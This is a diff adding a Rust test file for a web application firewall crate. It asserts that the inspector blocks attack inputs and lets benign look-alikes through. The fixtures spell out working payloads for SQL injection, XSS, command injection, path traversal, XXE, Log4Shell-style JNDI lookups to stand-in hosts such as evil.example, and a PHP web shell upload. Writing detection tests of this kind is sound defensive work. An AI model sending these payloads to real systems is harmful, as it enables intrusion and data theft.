@@ -1,0 +1,446 @@
+//! Detection and false-positive fixtures (written for this crate; no third-party test text).
+
+use aiwaf_payload::{
+    Class, DetectorMode, Exclusion, HeadParts, Inspector, Location, Malformed, OverLimit, PayloadConfig, Report,
+};
+
+fn insp() -> Inspector {
+    Inspector::new(PayloadConfig::default()).expect("default config")
+}
+
+fn enc(s: &str) -> String {
+    let mut o = String::new();
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() {
+            o.push(b as char);
+        } else {
+            o.push_str(&format!("%{b:02X}"));
+        }
+    }
+    o
+}
+
+fn query(i: &Inspector, q: &str) -> Report {
+    let mut r = Report::default();
+    let h: [(&str, &[u8]); 1] =
+        [("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")];
+    i.inspect_head(&HeadParts { method: "GET", path: "/search", query: Some(q), headers: &h }, &mut r);
+    r
+}
+
+fn value(i: &Inspector, v: &str) -> Report {
+    query(i, &format!("q={}", enc(v)))
+}
+
+fn form(i: &Inspector, field: &str, v: &str) -> Report {
+    let mut r = Report::default();
+    let body = format!("{field}={}", enc(v));
+    i.inspect_body("/submit", Some("application/x-www-form-urlencoded"), body.as_bytes(), false, &mut r);
+    r
+}
+
+#[track_caller]
+fn blocks(v: &str) {
+    let i = insp();
+    let r = value(&i, v);
+    assert!(r.should_block(i.config()), "expected block for {v:?}: {:?}", r.findings);
+}
+
+#[track_caller]
+fn passes(v: &str) {
+    let i = insp();
+    let r = value(&i, v);
+    assert!(!r.should_block(i.config()), "expected pass for {v:?}: {:?}", r.findings);
+    let r = form(&i, "comment", v);
+    assert!(!r.should_block(i.config()), "expected pass (form) for {v:?}: {:?}", r.findings);
+}
+
+#[test]
+fn sql_injection() {
+    for v in [
+        "' or '1'='1",
+        "1 or 1=1",
+        "1' UNION SELECT username, password FROM users--",
+        "1; DROP TABLE users",
+        "admin'--",
+        "1' AND SLEEP(5)#",
+        "1; waitfor delay '0:0:5'--",
+        "1 and extractvalue(1,concat(0x7e,version()))",
+        "1 union select table_name from information_schema.tables",
+        "1' INTO OUTFILE '/var/www/shell.php",
+        "' into outfile '/tmp/a",
+        "1 UNION/**/SELECT/**/1,2,3",
+        "1 and char(65,66,67)=char(65,66,67)",
+        "1) or pg_sleep(5)--",
+    ] {
+        blocks(v);
+    }
+}
+
+#[test]
+fn encoded_sql_injection_fires() {
+    let i = insp();
+    for q in [
+        "id=%27%20OR%20%271%27%3D%271",
+        "id=%2527%2520OR%2520%25271%2527%253D%25271",
+        "id=%EF%BC%87%20or%20%EF%BC%871%EF%BC%87=%EF%BC%871",
+    ] {
+        let r = query(&i, q);
+        assert!(r.should_block(i.config()), "{q}: {:?}", r.findings);
+        assert!(r.findings.iter().any(|f| f.target == "query.id"));
+    }
+}
+
+#[test]
+fn xss() {
+    for v in [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=x onerror\t=alert(1)>",
+        "<svg/onload=alert(document.domain)>",
+        "javascript:alert(document.cookie)",
+        "\" onmouseover=\"alert(1)",
+        "<iframe src=//evil.example>",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "＜script＞alert(1)＜/script＞",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<div style=\"width: expression(alert(1))\">",
+    ] {
+        blocks(v);
+    }
+    // onerror%09= arrives double-encoded in the raw query
+    let i = insp();
+    let r = query(&i, "q=%3Cimg%20src%3Dx%20onerror%2509%3Dalert(1)%3E");
+    assert!(r.should_block(i.config()), "{:?}", r.findings);
+}
+
+#[test]
+fn traversal_rfi_cmdi_and_friends() {
+    for v in [
+        "../../../../etc/passwd",
+        "..%2f..%2f..%2fetc%2fpasswd",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "php://filter/convert.base64-encode/resource=index.php",
+        "/proc/self/environ",
+        "http://attacker.example/shell.txt?",
+        "; cat /etc/passwd",
+        "| id",
+        "$(whoami)",
+        "`uname -a`",
+        "127.0.0.1 && ping -c 3 evil.example",
+        "x;cat${IFS}/etc/passwd",
+        "& powershell -enc SQBFAFgA",
+        "cmd.exe /c dir",
+        "{{7*7}}",
+        "${7*7}",
+        "{{config.items()}}",
+        "{{''.__class__.__mro__}}",
+        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
+        "a\r\nSet-Cookie: admin=1",
+        "${jndi:ldap://evil.example/a}",
+        "${${lower:j}ndi:ldap://evil.example/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
+        "<?php system($_GET['c']); ?>",
+        "eval(base64_decode('ZWNobyAxOw=='))",
+        "Runtime.getRuntime().exec('id')",
+        "java.lang.ProcessBuilder",
+        "require('child_process').exec('id')",
+        "process.mainModule.require('child_process')",
+        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+        "<!--#exec cmd=\"ls\"-->",
+    ] {
+        blocks(v);
+    }
+}
+
+#[test]
+fn nosql_operators_in_names_and_json_keys() {
+    let i = insp();
+    let r = query(&i, "user=admin&password[$ne]=x");
+    assert!(r.should_block(i.config()), "{:?}", r.findings);
+    let mut r = Report::default();
+    i.inspect_body("/login", Some("application/json"), br#"{"user":"admin","password":{"$ne":null}}"#, false, &mut r);
+    assert!(r.should_block(i.config()), "{:?}", r.findings);
+    assert!(r.findings.iter().any(|f| f.class == Class::Nosqli && f.target == "body.password.$ne"));
+    let mut r = Report::default();
+    i.inspect_body(
+        "/api",
+        Some("application/json"),
+        br#"{"$schema":"https://json-schema.org/draft/2020-12/schema","price$":1,"name":"x"}"#,
+        false,
+        &mut r,
+    );
+    assert!(!r.should_block(i.config()), "{:?}", r.findings);
+}
+
+#[test]
+fn look_alikes_do_not_fire() {
+    for v in [
+        "select a product",
+        "Select your size",
+        "O'Brien",
+        "Tom's Diner",
+        "don't",
+        "<b>bold</b> and <p>a paragraph</p>",
+        "1 or 2 items",
+        "union station",
+        "drop me a line",
+        "how to use select from where",
+        "https://example.com/page",
+        "jane.doe@example.com",
+        "2024-05-01T10:00:00Z",
+        "Tue, 01 May 2024 10:00:00 GMT",
+        "+1 (555) 123-4567",
+        "cat food",
+        "a; b",
+        "rock & roll; salt & pepper",
+        "Jam\u{f3}n Ib\u{e9}rico",
+        "Calle Formentera, 184 4-C",
+        "4539 1488 0343 6467",
+        "50% off everything!",
+        "What's new? Check the FAQ (section 2).",
+        "Price alert (new)",
+        "me & you | them",
+        "the expression (a + b) is even",
+    ] {
+        passes(v);
+    }
+    let i = insp();
+    for q in [
+        "next=https%3A%2F%2Fexample.com%2Fpage",
+        "redirect=https://example.com/a?b=c",
+        "url=http://example.com/",
+        "q=A%F1adir+al+carrito",
+        "email=lag%40xavipetit.lu",
+    ] {
+        let r = query(&i, q);
+        assert!(!r.should_block(i.config()), "{q}: {:?}", r.findings);
+    }
+}
+
+#[test]
+fn ls_la_only_at_paranoia_two() {
+    passes("ls -la");
+    let i = Inspector::new(PayloadConfig { paranoia: 2, ..PayloadConfig::default() }).expect("pl2");
+    assert!(value(&i, "ls -la /tmp").should_block(i.config()));
+}
+
+#[test]
+fn browser_headers_cookies_and_uas_pass() {
+    let i = insp();
+    for ua in [
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        "curl/8.5.0",
+        "python-requests/2.32.3",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    ] {
+        let h: [(&str, &[u8]); 5] = [
+            ("User-Agent", ua.as_bytes()),
+            ("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+            ("Cookie", b"_ga=GA1.2.123.456; csrftoken=abc; sessionid=xyz; JSESSIONID=08C8DCD89400C53A4F6F4C6029663578"),
+            ("Referer", b"https://example.com/search?q=a+b"),
+            ("Accept-Language", b"en-US,en;q=0.5"),
+        ];
+        let mut r = Report::default();
+        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
+        assert!(r.findings.is_empty(), "{ua}: {:?}", r.findings);
+    }
+    for ua in [
+        "sqlmap/1.8#stable (https://sqlmap.org)",
+        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+        "Nuclei - Open-source project",
+    ] {
+        let h: [(&str, &[u8]); 1] = [("User-Agent", ua.as_bytes())];
+        let mut r = Report::default();
+        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
+        assert!(r.should_block(i.config()), "{ua}");
+        assert_eq!(r.findings[0].target, "header.user-agent");
+    }
+}
+
+#[test]
+fn bodies() {
+    let i = insp();
+    // rich text with harmless markup
+    let mut r = Report::default();
+    i.inspect_body(
+        "/post",
+        Some("application/x-www-form-urlencoded"),
+        b"content=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%3C%2Fp%3E&title=Hi",
+        false,
+        &mut r,
+    );
+    assert!(!r.should_block(i.config()), "{:?}", r.findings);
+    // base64 PNG in JSON
+    let png = format!(
+        r#"{{"avatar":"data:image/png;base64,{}"}}"#,
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+    );
+    let mut r = Report::default();
+    i.inspect_body("/profile", Some("application/json"), png.as_bytes(), false, &mut r);
+    assert!(!r.should_block(i.config()), "{:?}", r.findings);
+    // JSON attack with nested name
+    let mut r = Report::default();
+    i.inspect_body(
+        "/api",
+        Some("application/json; charset=utf-8"),
+        br#"{"user":{"name":["a","b","<script>alert(1)</script>"]}}"#,
+        false,
+        &mut r,
+    );
+    assert!(r.should_block(i.config()));
+    assert_eq!(r.findings[0].target, "body.user.name[2]");
+    assert_eq!(r.findings[0].location, Location::BodyValue);
+    // multipart: field values and file names, not contents
+    let mp = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n";
+    let mut r = Report::default();
+    i.inspect_body("/upload", Some("multipart/form-data; boundary=XyZ"), mp, false, &mut r);
+    assert!(r.should_block(i.config()), "{:?}", r.findings);
+    assert!(r.findings.iter().all(|f| f.target == "body.file.filename"), "{:?}", r.findings);
+    // XXE in XML
+    let mut r = Report::default();
+    i.inspect_body(
+        "/xml",
+        Some("application/xml"),
+        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
+        false,
+        &mut r,
+    );
+    assert!(r.findings.iter().any(|f| f.class == Class::Xxe), "{:?}", r.findings);
+    // benign XML
+    let mut r = Report::default();
+    i.inspect_body(
+        "/xml",
+        Some("text/xml"),
+        b"<?xml version=\"1.0\"?><order id=\"7\"><item>Blue shirt</item></order>",
+        false,
+        &mut r,
+    );
+    assert!(r.findings.is_empty(), "{:?}", r.findings);
+    // malformed JSON: low-severity finding, attacks still seen in the raw body
+    let mut r = Report::default();
+    i.inspect_body("/api", Some("application/json"), b"{\"a\": 1,", false, &mut r);
+    assert!(r.findings.iter().any(|f| f.rule == "protocol.malformed_body"));
+    assert!(!r.should_block(i.config()));
+    let i2 =
+        Inspector::new(PayloadConfig { on_malformed_body: Malformed::Pass, ..PayloadConfig::default() }).expect("cfg");
+    let mut r = Report::default();
+    i2.inspect_body("/api", Some("application/json"), b"{\"a\": 1,", false, &mut r);
+    assert!(r.findings.is_empty());
+}
+
+#[test]
+fn over_limit_modes() {
+    let body = b"a=hello";
+    for (mode, expect_block) in [(OverLimit::InspectPrefix, false), (OverLimit::Block, true), (OverLimit::Pass, false)]
+    {
+        let i = Inspector::new(PayloadConfig { on_body_over_limit: mode, ..PayloadConfig::default() }).expect("cfg");
+        let mut r = Report::default();
+        i.inspect_body("/", Some("application/x-www-form-urlencoded"), body, true, &mut r);
+        assert_eq!(r.should_block(i.config()), expect_block, "{mode:?}");
+    }
+}
+
+#[test]
+fn modes_paranoia_and_exclusions() {
+    let mut detectors = std::collections::BTreeMap::new();
+    detectors.insert("sqli".to_string(), DetectorMode::Detect);
+    let i = Inspector::new(PayloadConfig { detectors, ..PayloadConfig::default() }).expect("cfg");
+    let r = value(&i, "' or '1'='1");
+    assert!(!r.findings.is_empty() && r.findings.iter().all(|f| f.shadow));
+    assert_eq!(r.score, 0);
+
+    let i = Inspector::new(PayloadConfig {
+        exclusions: vec![Exclusion {
+            path_prefix: "/search".into(),
+            detectors: vec!["sqli".into()],
+            targets: vec!["query.q".into()],
+        }],
+        ..PayloadConfig::default()
+    })
+    .expect("cfg");
+    assert!(value(&i, "' or '1'='1").findings.iter().all(|f| f.class != Class::Sqli));
+    assert!(value(&i, "<script>alert(1)</script>").should_block(i.config()));
+
+    let i = Inspector::new(PayloadConfig { executing_paranoia: 2, ..PayloadConfig::default() }).expect("cfg");
+    let r = value(&i, "ls -la /tmp");
+    assert!(r.findings.iter().any(|f| f.shadow && f.paranoia == 2), "{:?}", r.findings);
+    assert!(!r.should_block(i.config()));
+}
+
+#[test]
+fn config_validation_names_the_key() {
+    let e = Inspector::new(PayloadConfig { paranoia: 7, ..PayloadConfig::default() }).unwrap_err();
+    assert!(e.contains("paranoia") && e.contains('7'), "{e}");
+    let mut detectors = std::collections::BTreeMap::new();
+    detectors.insert("sqlx".to_string(), DetectorMode::Off);
+    let e = Inspector::new(PayloadConfig { detectors, ..PayloadConfig::default() }).unwrap_err();
+    assert!(e.contains("sqlx"), "{e}");
+    let cfg: PayloadConfig =
+        serde_json::from_str(r#"{"paranoia":2,"on_body_over_limit":"block","detectors":{"xss":"detect"}}"#)
+            .expect("serde");
+    assert_eq!(cfg.on_body_over_limit, OverLimit::Block);
+    assert!(serde_json::from_str::<PayloadConfig>(r#"{"paranoya":2}"#).is_err());
+}
+
+#[test]
+fn scoring_dedupes_per_rule_and_bounds_findings() {
+    let i = insp();
+    let q: Vec<String> = (0..100).map(|n| format!("a{n}=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).collect();
+    let r = query(&i, &q.join("&"));
+    assert!(r.findings.len() <= aiwaf_payload::MAX_FINDINGS);
+    let distinct: std::collections::BTreeSet<&str> = r.findings.iter().map(|f| f.rule).collect();
+    assert!(r.score <= 5 * distinct.len() as u32 + 5, "score {} for {:?}", r.score, distinct);
+    assert!(r.summary().contains("Cross-site scripting"), "{}", r.summary());
+    let j = r.findings[0].to_json();
+    assert_eq!(j["class"], "xss");
+}
+
+#[test]
+fn target_limit() {
+    let i = Inspector::new(PayloadConfig { max_targets: 4, ..PayloadConfig::default() }).expect("cfg");
+    let r = query(&i, "a=1&b=2&c=3&d=4&e=5&f=6");
+    assert!(r.targets_dropped > 0);
+    assert!(r.findings.iter().any(|f| f.rule == "protocol.too_many_targets"));
+}
+
+#[test]
+fn never_panics_on_arbitrary_bytes() {
+    let i = insp();
+    let mut seed: u64 = 0x9e3779b97f4a7c15;
+    let alphabet: &[u8] = b"%'\"<>&;=+$(){}[]\\/.:-#*`|!@^~\0\r\n\t aZ09\xc0\xae\xef\xbc\xff";
+    for n in 0..3000 {
+        let len = n % 97;
+        let mut v = Vec::with_capacity(len);
+        for _ in 0..len {
+            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+            v.push(alphabet[(seed >> 33) as usize % alphabet.len()]);
+        }
+        let s = String::from_utf8_lossy(&v).into_owned();
+        let h: [(&str, &[u8]); 3] = [("User-Agent", &v), ("Cookie", &v), ("Referer", &v)];
+        let mut r = Report::default();
+        i.inspect_head(&HeadParts { method: "GET", path: &s, query: Some(&s), headers: &h }, &mut r);
+        for ct in [
+            "application/json",
+            "application/xml",
+            "multipart/form-data; boundary=a",
+            "application/x-www-form-urlencoded",
+            "text/plain",
+        ] {
+            i.inspect_body(&s, Some(ct), &v, n % 2 == 0, &mut r);
+        }
+        let _ = r.summary();
+    }
+}
+
+#[test]
+fn empty_get_is_clean() {
+    let i = insp();
+    let mut r = Report::default();
+    i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &[] }, &mut r);
+    assert!(r.is_clean() && r.score == 0);
+    let _ = Location::Path;
+}
